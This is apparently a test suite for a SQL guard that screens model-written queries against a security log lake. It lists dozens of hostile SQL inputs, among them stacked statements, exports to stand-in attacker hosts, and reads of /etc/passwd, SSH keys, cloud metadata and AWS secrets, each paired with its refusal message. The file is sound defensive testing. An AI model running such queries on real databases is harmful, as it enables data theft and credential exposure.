import { describe, expect, it } from 'vitest';
import { prepareSql } from '../../lambdas/core/query/prepare.js';
import { SqlRejectedError } from '../../lambdas/core/query/sql-guard.js';

const OPTS = {
  tables: ['cloudtrail', 'identity_events'],
  maxRows: 10_000,
  now: new Date('2026-11-20T12:00:00Z'),
};

/**
 * What a hostile or broken model might answer, each with the reason it is refused. Every one must
 * be refused before anything runs; parse failures are checked by their prefix only.
 */
const HOSTILE: [string, string][] = [
  ['DROP TABLE cloudtrail', 'only SELECT queries are allowed; found DROP'],
  ['DELETE FROM cloudtrail', 'only SELECT queries are allowed; found DELETE'],
  ['INSERT INTO cloudtrail SELECT * FROM cloudtrail', 'only SELECT queries are allowed; found INSERT'],
  ["UPDATE cloudtrail SET eventname = 'x'", 'only SELECT queries are allowed; found UPDATE'],
  ['CREATE TABLE x AS SELECT * FROM cloudtrail', 'only SELECT queries are allowed; found CREATE'],
  ['CREATE VIEW v AS SELECT 1', 'only SELECT queries are allowed; found CREATE'],
  ['ALTER TABLE cloudtrail ADD COLUMN x INT', 'only SELECT queries are allowed; found ALTER'],
  ['TRUNCATE TABLE cloudtrail', 'only SELECT queries are allowed; found TRUNCATE'],
  ['SELECT 1; DROP TABLE cloudtrail', 'exactly one statement is allowed; found 2'],
  ['SELECT eventname FROM cloudtrail; DELETE FROM cloudtrail', 'exactly one statement is allowed; found 2'],
  ['SELECT 1;SELECT 2', 'exactly one statement is allowed; found 2'],
  ['SELECT 1 /* */; DROP TABLE cloudtrail', 'exactly one statement is allowed; found 2'],
  ['SELECT 1 -- comment\n; DROP TABLE cloudtrail', 'exactly one statement is allowed; found 2'],
  ['/* hidden */ DROP TABLE cloudtrail', 'only SELECT queries are allowed; found DROP'],
  [
    'SELECT * FROM cloudtrail WHERE 1=1 /* ; */ ; UPDATE cloudtrail SET x=1',
    'exactly one statement is allowed; found 2',
  ],
  [
    "UNLOAD (SELECT * FROM cloudtrail) TO 's3://evil/x' WITH (format = 'PARQUET')",
    'only SELECT queries are allowed; found UNLOAD',
  ],
  ["COPY cloudtrail TO '/tmp/out.csv'", 'only SELECT queries are allowed; found COPY'],
  ["COPY (SELECT * FROM cloudtrail) TO 'http://evil/x'", 'only SELECT queries are allowed; found COPY'],
  ["EXPORT DATABASE '/tmp/x'", 'only SELECT queries are allowed; found EXPORT'],
  ["ATTACH '/tmp/x.db' AS x", 'only SELECT queries are allowed; found ATTACH'],
  ['INSTALL httpfs', 'only SELECT queries are allowed; found INSTALL'],
  ['LOAD httpfs', 'only SELECT queries are allowed; found LOAD'],
  ['PRAGMA database_list', 'only SELECT queries are allowed; found PRAGMA'],
  ['SET enable_external_access = true', 'only SELECT queries are allowed; found SET'],
  ['CALL pragma_version()', 'only SELECT queries are allowed; found CALL'],
  ["SELECT * FROM read_csv('/etc/passwd')", 'table functions are not allowed in FROM (read_csv)'],
  ["SELECT * FROM read_csv_auto('/etc/passwd')", 'table functions are not allowed in FROM (read_csv_auto)'],
  ["SELECT * FROM read_text('/etc/passwd')", 'table functions are not allowed in FROM (read_text)'],
  ["SELECT * FROM read_blob('/root/.ssh/id_rsa')", 'table functions are not allowed in FROM (read_blob)'],
  [
    "SELECT * FROM read_json('http://169.254.169.254/latest/meta-data/')",
    'table functions are not allowed in FROM (read_json)',
  ],
  [
    "SELECT * FROM read_parquet('s3://bucket/x.parquet')",
    'table functions are not allowed in FROM (read_parquet)',
  ],
  ["SELECT * FROM parquet_scan('/etc/x.parquet')", 'table functions are not allowed in FROM (parquet_scan)'],
  [
    "SELECT * FROM '/etc/passwd'",
    "table /etc/passwd is not one of the lake's tables (cloudtrail, identity_events)",
  ],
  [
    "SELECT * FROM 'https://evil.example/x.csv'",
    "table https://evil.example/x.csv is not one of the lake's tables (cloudtrail, identity_events)",
  ],
  ["SELECT * FROM glob('/home/*')", 'table functions are not allowed in FROM (glob)'],
  [
    "SELECT read_text('/etc/passwd')",
    "function read_text is not allowed: it reads outside the lake's tables or the engine's state",
  ],
  ["SELECT content FROM read_text('/etc/shadow')", 'table functions are not allowed in FROM (read_text)'],
  [
    "SELECT getenv('AWS_SECRET_ACCESS_KEY')",
    "function getenv is not allowed: it reads outside the lake's tables or the engine's state",
  ],
  [
    "SELECT current_setting('allowed_directories')",
    "function current_setting is not allowed: it reads outside the lake's tables or the engine's state",
  ],
  ['SELECT * FROM duckdb_settings()', 'table functions are not allowed in FROM (duckdb_settings)'],
  ['SELECT * FROM duckdb_secrets()', 'table functions are not allowed in FROM (duckdb_secrets)'],
  [
    'SELECT * FROM information_schema.tables',
    'schema-qualified table information_schema.tables is not allowed',
  ],
  ['SELECT * FROM pg_catalog.pg_tables', 'schema-qualified table pg_catalog.pg_tables is not allowed'],
  [
    'SELECT * FROM sqlite_master',
    "table sqlite_master is not one of the lake's tables (cloudtrail, identity_events)",
  ],
  ['SELECT * FROM system.runtime.nodes', 'schema-qualified table system.nodes is not allowed'],
  ['SELECT * FROM lake.cloudtrail', 'schema-qualified table lake.cloudtrail is not allowed'],
  ['SELECT * FROM main.cloudtrail', 'schema-qualified table main.cloudtrail is not allowed'],
  ['SELECT * FROM users', "table users is not one of the lake's tables (cloudtrail, identity_events)"],
  [
    'SELECT * FROM cloudtrail JOIN secrets ON true',
    "table secrets is not one of the lake's tables (cloudtrail, identity_events)",
  ],
  [
    'SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM (SELECT * FROM cloudtrail))))',
    'subqueries nest 4 deep; at most 3 allowed',
  ],
  [
    'SELECT * FROM cloudtrail WHERE eventname IN (SELECT eventname FROM cloudtrail WHERE eventid IN (SELECT eventid FROM cloudtrail WHERE eventid IN (SELECT eventid FROM cloudtrail WHERE eventid IN (SELECT eventid FROM cloudtrail))))',
    'subqueries nest 4 deep; at most 3 allowed',
  ],
  [
    "SELECT query('SELECT 1')",
    "function query is not allowed: it reads outside the lake's tables or the engine's state",
  ],
  ["SELECT * FROM query_table('cloudtrail')", 'table functions are not allowed in FROM (query_table)'],
  [
    "SELECT load_extension('x')",
    "function load_extension is not allowed: it reads outside the lake's tables or the engine's state",
  ],
  [
    "SELECT http_get('http://evil')",
    "function http_get is not allowed: it reads outside the lake's tables or the engine's state",
  ],
  ["SELECT * FROM iceberg_scan('s3://x')", 'table functions are not allowed in FROM (iceberg_scan)'],
  ["SELECT * FROM delta_scan('/x')", 'table functions are not allowed in FROM (delta_scan)'],
  ["SELECT * FROM sniff_csv('/etc/passwd')", 'table functions are not allowed in FROM (sniff_csv)'],
  [
    "SELECT json_execute_serialized_sql('x')",
    "function json_execute_serialized_sql is not allowed: it reads outside the lake's tables or the engine's state",
  ],
  ["SELECT * FROM cloudtrail INTO OUTFILE '/tmp/x'", 'SELECT \u2026 INTO is not allowed'],
  ['', 'empty SQL'],
  ['   ', 'empty SQL'],
  ['SELEC * FROM cloudtrail', 'SQL could not be parsed'],
  ['GRANT ALL ON cloudtrail TO public', 'only SELECT queries are allowed; found GRANT'],
  ['VACUUM', 'only SELECT queries are allowed; found VACUUM'],
  ['CHECKPOINT', 'only SELECT queries are allowed; found CHECKPOINT'],
  ["SELECT * FROM which_secret('s3://x', 's3')", 'table functions are not allowed in FROM (which_secret)'],
];

describe('hostile model output is refused before it runs, with its reason', () => {
  it('holds at least 50 cases', () => {
    expect(HOSTILE.length).toBeGreaterThanOrEqual(50);
  });

  it.each(HOSTILE)('%j', (sql, reason) => {
    let error: unknown;
    try {
      prepareSql(sql, OPTS);
    } catch (err) {
      error = err;
    }
    expect(error).toBeInstanceOf(SqlRejectedError);
    if (reason === 'SQL could not be parsed') expect((error as Error).message.startsWith(reason)).toBe(true);
    else expect((error as Error).message).toBe(reason);
  });

  it.each([
    ['SELECT * FROM cloudtrail LIMIT 100000000', 'SELECT * FROM "cloudtrail" LIMIT 10000'],
    [
      'SELECT eventname FROM cloudtrail LIMIT 50000 OFFSET 10',
      'SELECT eventname FROM "cloudtrail" LIMIT 10000 OFFSET 10',
    ],
    [
      'SELECT eventname FROM cloudtrail UNION ALL SELECT eventname FROM cloudtrail LIMIT 20000',
      'SELECT eventname FROM "cloudtrail" UNION ALL SELECT eventname FROM "cloudtrail" LIMIT 10000',
    ],
  ])('lowers a huge LIMIT on the syntax tree: %j', (sql, expected) => {
    const prepared = prepareSql(sql, OPTS);
    expect(prepared.sql).toBe(expected);
    expect(prepared.limit).toEqual({ value: 10_000, action: 'lowered' });
  });
});
